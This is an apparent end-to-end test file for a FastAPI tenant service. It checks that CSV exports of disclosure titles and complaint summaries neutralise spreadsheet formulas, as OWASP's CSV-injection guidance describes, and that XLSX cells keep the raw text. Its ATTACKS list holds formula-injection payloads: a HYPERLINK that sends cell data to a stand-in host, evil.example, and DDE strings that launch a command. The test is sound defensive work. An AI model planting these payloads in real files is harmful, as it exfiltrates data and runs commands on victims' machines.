"""CSV exports never hand a spreadsheet a formula (OWASP CSV injection)."""

from __future__ import annotations

from fastapi.testclient import TestClient

from tests.e2e.conftest import FINANCE, TokenFactory
from tests.exports import csv_table, split, xlsx_rows

VILLAGE = "/v1/tenants/xinhe.tahe.tuanjie"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ATTACKS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
)


def _csv(client: TestClient, url: str, headers: dict[str, str]) -> list[dict[str, str]]:
    response = client.get(url, params={"format": "csv"}, headers=headers)
    assert response.status_code == 200, response.text
    return csv_table(response.content)


def test_titles_and_summaries_that_look_like_formulas_are_exported_as_text(
    client: TestClient, auth: TokenFactory, tree: None
) -> None:
    clerk = auth("xinhe.tahe.tuanjie", "clerk", "handler")
    for attack in ATTACKS:
        published = client.post(
            f"{VILLAGE}/disclosures", json=FINANCE | {"title": attack}, headers=clerk
        )
        assert published.status_code == 201, published.text
        filed = client.post(
            f"{VILLAGE}/cases",
            json={
                "kind": "complaint",
                "channel": "mailbox",
                "signed": False,
                "summary": attack,
            },
            headers=clerk,
        )
        assert filed.status_code == 201, filed.text

    titles = {r["标题"] for r in _csv(client, f"{VILLAGE}/disclosures", clerk)}
    summaries = {r["内容摘要"] for r in _csv(client, f"{VILLAGE}/cases", clerk)}
    guarded = {"'" + attack for attack in ATTACKS}
    assert titles == guarded
    assert summaries == guarded

    # XLSX stores text as text: the cells hold exactly what was typed.
    response = client.get(f"{VILLAGE}/disclosures", headers=clerk | {"Accept": XLSX})
    rows = split(xlsx_rows(response.content))[1]
    column = rows[0].index("标题")
    assert {r[column] for r in rows[1:]} == set(ATTACKS)
